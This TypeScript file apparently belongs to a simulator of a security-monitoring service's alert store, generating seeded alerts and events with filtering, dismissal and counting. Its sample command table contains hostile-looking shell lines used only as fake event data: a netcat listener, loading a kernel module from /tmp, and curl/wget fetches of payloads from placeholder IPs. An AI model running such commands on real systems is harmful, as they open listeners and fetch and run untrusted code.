import { type Random, randomFor } from '../../common/random.ts';
import type { AgentTable } from './agents.ts';
import type { Rule, RuleStore } from './rules.ts';
import { userNames } from './vocabulary.ts';

/** An alert event in the project-defined shape of decision D7 (every field present, null when n/a). */
export interface AlertEvent {
  id: string;
  timestamp: string;
  eventType: 'audit' | 'login' | 'network' | 'file' | 'cloudtrail';
  agentId: string | null;
  hostname: string | null;
  user: string | null;
  exe: string | null;
  command: string | null;
  args: string[] | null;
  pid: number | null;
  ppid: number | null;
  srcIp: string | null;
  dstIp: string | null;
  dstPort: number | null;
  filename: string | null;
  syscall: string | null;
  ruleId: string | null;
  alertId: string | null;
}

export type DismissReason = 'BUSINESS_OP' | 'COMPANY_POLICY' | 'MAINTENANCE' | 'OTHER';
export const dismissReasons: readonly DismissReason[] = [
  'BUSINESS_OP',
  'COMPANY_POLICY',
  'MAINTENANCE',
  'OTHER',
];

export interface StoredAlert {
  id: string;
  title: string;
  dataSource: 'agent' | 'cloudtrail';
  createdAt: number;
  isDismissed: boolean;
  dismissedAt: number | null;
  dismissReason: DismissReason | null;
  dismissReasonText: string | null;
  dismissedBy: string | null;
  severity: 1 | 2 | 3;
  agentId: string | null;
  ruleId: string;
  rulesetId: string;
  aggregates: Array<{ fieldName: string; fieldValue: string }>;
  /** Host name for host alerts, AWS region for CloudTrail alerts (the webhook's server_or_region). */
  serverOrRegion: string;
  /** Stored events (alerts from actions), or undefined when generated on demand from the seed. */
  events?: AlertEvent[];
  /** The generator index of a seeded alert (drives its lazily generated events). */
  seedIndex?: number;
}

export interface AlertFilter {
  status?: 'active' | 'dismissed';
  from?: number;
  until?: number;
  severity?: number;
  ruleId?: string;
  agentId?: string;
}

/** A position in the (createdAt, id) order of alerts. */
export type AlertCursor = [number, string];

const DAY = 86_400_000;

const sampleCommands: Record<string, string[]> = {
  Host: [
    'sudo su -',
    'yum install -y htop',
    'insmod /tmp/hid.ko',
    'nc -lvp 4444',
    'apt-get install -y netcat',
  ],
  ThreatIntel: ['curl -s http://203.0.113.7/x.sh', 'wget http://198.51.100.23/payload'],
};

export function objectIdAt(random: Random, atMs: number): string {
  return (
    Math.floor(atMs / 1000)
      .toString(16)
      .padStart(8, '0') + random.hex(16)
  );
}

function compare(a: StoredAlert, cursor: AlertCursor): number {
  return a.createdAt !== cursor[0]
    ? a.createdAt - cursor[0]
    : a.id < cursor[1]
      ? -1
      : a.id > cursor[1]
        ? 1
        : 0;
}

/**
 * Alerts of one organization, ordered by createdAt ascending (decision D6). Seeded alerts are
 * spread over the 30 days before the anchor; the detection engine inserts more. An alert is
 * visible only once its createdAt has passed on the simulator clock.
 */
export class AlertStore {
  private readonly alerts: StoredAlert[] = [];
  private readonly byId = new Map<string, StoredAlert>();

  constructor(
    private readonly seed: number,
    count: number,
    private readonly agents: AgentTable,
    rules: RuleStore,
    anchorMs: number,
    dismissers: string[],
  ) {
    const hostRules = rules.allRules().filter((r) => r.type !== 'CloudTrail' && r.type !== 'File');
    const cloudRules = rules.allRules().filter((r) => r.type === 'CloudTrail');
    const start = anchorMs - 30 * DAY;
    const step = (30 * DAY) / Math.max(1, count);
    for (let k = 0; k < count; k++) {
      const random = randomFor(seed, 'alert', k);
      const createdAt = Math.floor(start + k * step + random.next() * step * 0.9);
      const cloud = agents.size === 0 || random.chance(0.1);
      const rule = random.pick(cloud ? cloudRules : hostRules);
      const agentIndex = cloud ? -1 : random.int(0, agents.size - 1);
      this.insert(this.seededAlert(random, k, createdAt, rule, agentIndex, dismissers, anchorMs));
    }
  }

  private seededAlert(
    random: Random,
    seedIndex: number,
    createdAt: number,
    rule: Rule,
    agentIndex: number,
    dismissers: string[],
    anchorMs: number,
  ): StoredAlert {
    const agent = agentIndex >= 0 ? this.agents.record(agentIndex) : null;
    const dismissed = random.chance(0.2);
    const reason = random.pick(dismissReasons);
    const user = random.pick(userNames);
    const serverOrRegion = agent ? agent.hostname : random.pick(['us-east-1', 'eu-west-1']);
    return {
      id: objectIdAt(random, createdAt),
      title: agent ? `${rule.title} by ${user} on ${serverOrRegion}` : `${rule.title} in ${serverOrRegion}`,
      dataSource: agent ? 'agent' : 'cloudtrail',
      createdAt,
      isDismissed: dismissed,
      dismissedAt: dismissed ? Math.min(anchorMs, createdAt + random.int(1, 48) * 3_600_000) : null,
      dismissReason: dismissed ? reason : null,
      dismissReasonText: dismissed ? (reason === 'OTHER' ? 'Expected during migration' : '') : null,
      dismissedBy: dismissed ? random.pick(dismissers) : null,
      severity: rule.severityOfAlerts,
      agentId: agent?.id ?? null,
      ruleId: rule.id,
      rulesetId: rule.rulesetId,
      aggregates: agent
        ? [
            { fieldName: 'user', fieldValue: user },
            { fieldName: 'hostname', fieldValue: agent.hostname },
          ]
        : [{ fieldName: 'eventName', fieldValue: 'ConsoleLogin' }],
      serverOrRegion,
      seedIndex,
    };
  }

  /** Inserts keeping (createdAt, id) order. */
  insert(alert: StoredAlert): void {
    let lo = 0;
    let hi = this.alerts.length;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      const at = this.alerts[mid];
      if (at && compare(at, [alert.createdAt, alert.id]) < 0) lo = mid + 1;
      else hi = mid;
    }
    this.alerts.splice(lo, 0, alert);
    this.byId.set(alert.id, alert);
  }

  /** A visible alert by id. */
  get(id: string, nowMs: number): StoredAlert | undefined {
    const alert = this.byId.get(id);
    return alert && alert.createdAt <= nowMs ? alert : undefined;
  }

  /** Visible alerts matching the filter, strictly after the cursor, in order. */
  *iterate(filter: AlertFilter, after: AlertCursor | null, nowMs: number): Generator<StoredAlert> {
    let lo = 0;
    if (after) {
      let hi = this.alerts.length;
      while (lo < hi) {
        const mid = (lo + hi) >> 1;
        const at = this.alerts[mid];
        if (at && compare(at, after) <= 0) lo = mid + 1;
        else hi = mid;
      }
    }
    for (let i = lo; i < this.alerts.length; i++) {
      const alert = this.alerts[i];
      if (!alert || alert.createdAt > nowMs) break;
      if (matches(alert, filter)) yield alert;
    }
  }

  /** Marks matching visible alerts dismissed; returns how many changed. */
  dismiss(
    select: (alert: StoredAlert) => boolean,
    reason: DismissReason,
    text: string | null,
    by: string,
    nowMs: number,
  ): number {
    let changed = 0;
    for (const alert of this.alerts) {
      if (alert.createdAt > nowMs || alert.isDismissed || !select(alert)) continue;
      Object.assign(alert, {
        isDismissed: true,
        dismissedAt: nowMs,
        dismissReason: reason,
        dismissReasonText: text,
        dismissedBy: by,
      });
      changed++;
    }
    return changed;
  }

  /** Counts of visible alerts. */
  counts(
    nowMs: number,
    sinceMs?: number,
  ): {
    total: number;
    active: number;
    dismissed: number;
    bySeverity: Record<'1' | '2' | '3', number>;
  } {
    const counts = { total: 0, active: 0, dismissed: 0, bySeverity: { '1': 0, '2': 0, '3': 0 } };
    for (const alert of this.alerts) {
      if (alert.createdAt > nowMs) break;
      if (sinceMs !== undefined && alert.createdAt < sinceMs) continue;
      counts.total++;
      if (alert.isDismissed) counts.dismissed++;
      else counts.active++;
      counts.bySeverity[String(alert.severity) as '1' | '2' | '3']++;
    }
    return counts;
  }

  /** The events behind an alert: stored ones, or the seeded ones generated on demand. */
  eventsOf(alert: StoredAlert): AlertEvent[] {
    if (alert.events) return alert.events;
    const random = randomFor(this.seed, 'alert-events', alert.seedIndex ?? 0);
    const count = random.int(1, 3);
    const events: AlertEvent[] = [];
    const agentIndex = alert.agentId === null ? undefined : this.agents.indexOf(alert.agentId);
    const hostname = agentIndex === undefined ? null : this.agents.hostname(agentIndex);
    for (let e = 0; e < count; e++) {
      const timestamp = new Date(alert.createdAt - random.int(1, 120) * 1000).toISOString();
      if (alert.dataSource === 'cloudtrail') {
        events.push({
          ...emptyEvent(random.uuid4(), timestamp, 'cloudtrail'),
          user: `arn:aws:iam::${random.int(100000000000, 999999999999)}:user/${random.pick(userNames)}`,
          srcIp: `198.51.100.${random.int(1, 254)}`,
          ruleId: alert.ruleId,
          alertId: alert.id,
        });
        continue;
      }
      const command = random.pick(
        sampleCommands[alert.title.startsWith('Threat') ? 'ThreatIntel' : 'Host'] ?? [],
      );
      const args = command.split(' ');
      events.push({
        ...emptyEvent(random.uuid4(), timestamp, 'audit'),
        agentId: alert.agentId,
        hostname,
        user: alert.aggregates.find((a) => a.fieldName === 'user')?.fieldValue ?? 'root',
        exe: `/usr/bin/${args[0]}`,
        command,
        args,
        pid: random.int(300, 60000),
        ppid: random.int(1, 299),
        syscall: 'execve',
        ruleId: alert.ruleId,
        alertId: alert.id,
      });
    }
    return events;
  }
}

export function emptyEvent(id: string, timestamp: string, eventType: AlertEvent['eventType']): AlertEvent {
  return {
    id,
    timestamp,
    eventType,
    agentId: null,
    hostname: null,
    user: null,
    exe: null,
    command: null,
    args: null,
    pid: null,
    ppid: null,
    srcIp: null,
    dstIp: null,
    dstPort: null,
    filename: null,
    syscall: null,
    ruleId: null,
    alertId: null,
  };
}

function matches(alert: StoredAlert, filter: AlertFilter): boolean {
  if (filter.status === 'active' && alert.isDismissed) return false;
  if (filter.status === 'dismissed' && !alert.isDismissed) return false;
  if (filter.from !== undefined && alert.createdAt < filter.from) return false;
  if (filter.until !== undefined && alert.createdAt > filter.until) return false;
  if (filter.severity !== undefined && alert.severity !== filter.severity) return false;
  if (filter.ruleId !== undefined && alert.ruleId !== filter.ruleId) return false;
  if (filter.agentId !== undefined && alert.agentId !== filter.agentId) return false;
  return true;
}

/** The API's JSON form of an alert (current v2 names). */
export function toAlertJson(alert: StoredAlert): Record<string, unknown> {
  return {
    id: alert.id,
    title: alert.title,
    dataSource: alert.dataSource,
    createdAt: new Date(alert.createdAt).toISOString(),
    isDismissed: alert.isDismissed,
    dismissedAt: alert.dismissedAt === null ? null : new Date(alert.dismissedAt).toISOString(),
    dismissReason: alert.dismissReason,
    dismissReasonText: alert.dismissReasonText,
    dismissedBy: alert.dismissedBy,
    severity: alert.severity,
    agentId: alert.agentId,
    ruleId: alert.ruleId,
    rulesetId: alert.rulesetId,
    aggregates: alert.aggregates,
  };
}
